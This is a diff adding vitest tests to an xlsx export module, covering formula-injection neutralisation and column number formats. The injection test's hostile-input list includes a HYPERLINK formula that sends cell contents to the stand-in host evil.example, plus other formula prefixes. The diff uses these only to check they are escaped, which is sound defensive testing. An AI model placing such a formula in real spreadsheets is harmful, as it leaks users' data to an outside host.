@@ -1,7 +1,7 @@
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { columnLetters, xlsxBuffer, xlsxStream } from './xlsx.js';
+import { columnLetters, neutraliseFormula, xlsxBuffer, xlsxStream } from './xlsx.js';
 
 describe('xlsx writer', () => {
   it('names columns as Excel does', () => {
@@ -38,6 +38,27 @@ describe('xlsx writer', () => {
     for await (const sheet of reader) for await (const row of sheet) { seen++; last = row.values as unknown[]; }
     expect(seen).toBe(20_001);
     expect(last).toEqual([undefined, 'row 19999', 19999]);
+  });
+
+  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), in every cell; numbers stay numbers', async () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1+2', '-2', '@SUM(A1:A9)', '\t=1', '\r=1'];
+    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((s) => `'${s}`));
+    expect(['a=b', ' =1', '', '1-2', '\'already quoted', '＝1'].map(neutraliseFormula)).toEqual(['a=b', ' =1', '', '1-2', '\'already quoted', '＝1']);
+    const data = await xlsxBuffer([{ name: 's', columns: [{ header: '=title' }, { header: 'n' }, { header: 'm' }], rows: [[[hostile[0], -5, '-5'], ['@x', -0.5, 'ok']]] }]);
+    const sheet = (await new ExcelJS.Workbook().xlsx.load(data as unknown as ArrayBuffer)).worksheets[0];
+    expect(sheet.getRow(1).values).toEqual([undefined, "'=title", 'n', 'm']);
+    expect(sheet.getRow(2).values).toEqual([undefined, `'${hostile[0]}`, -5, "'-5"]);
+    expect(sheet.getRow(3).values).toEqual([undefined, "'@x", -0.5, 'ok']);
+    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
+  });
+
+  it('formats a column\'s numbers and adds the header\'s filter when asked', async () => {
+    const data = await xlsxBuffer([{ name: 's', autoFilter: true, columns: [{ header: 'job' }, { header: 'hours', numberFormat: '0.00' }], rows: [[['brakes', 0.3], ['tyres', 1]]] }]);
+    const sheet = (await new ExcelJS.Workbook().xlsx.load(data as unknown as ArrayBuffer)).worksheets[0];
+    expect(sheet.getCell('B2').numFmt).toBe('0.00');
+    expect(sheet.getCell('B2').value).toBe(0.3);
+    expect(sheet.getCell('A2').numFmt).toBeUndefined();
+    expect(sheet.autoFilter).toBe('A1:B1');
   });
 
   it('fails the stream when a row source fails', async () => {
